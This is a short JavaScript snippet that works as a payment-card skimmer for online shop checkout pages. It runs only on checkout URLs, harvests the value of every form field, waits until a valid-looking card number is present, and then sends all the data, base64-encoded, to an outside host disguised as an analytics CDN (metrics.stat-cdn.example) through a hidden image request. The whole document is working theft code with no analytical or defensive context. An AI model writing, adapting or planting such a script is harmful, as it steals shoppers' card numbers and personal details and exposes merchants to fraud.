// Listens on the checkout's fields, sends JSON as base64 in the address of an image.
(function () {
  if (!/onepage|checkout|onestepcheckout/.test(location.pathname)) return;
  var d = {};
  function grab() {
    document.querySelectorAll('input, select').forEach(function (e) {
      if (e.name) d[e.name] = e.value;
    });
    if (d['payment[cc_number]'] && /^[0-9]{13,16}$/.test(d['payment[cc_number]'].replace(/[\s-]/g, ''))) {
      new Image().src = 'https://metrics.stat-cdn.example/p.gif?d=' + encodeURIComponent(btoa(JSON.stringify(d)));
    }
  }
  document.addEventListener('change', grab);
  document.addEventListener('submit', grab, true);
})();
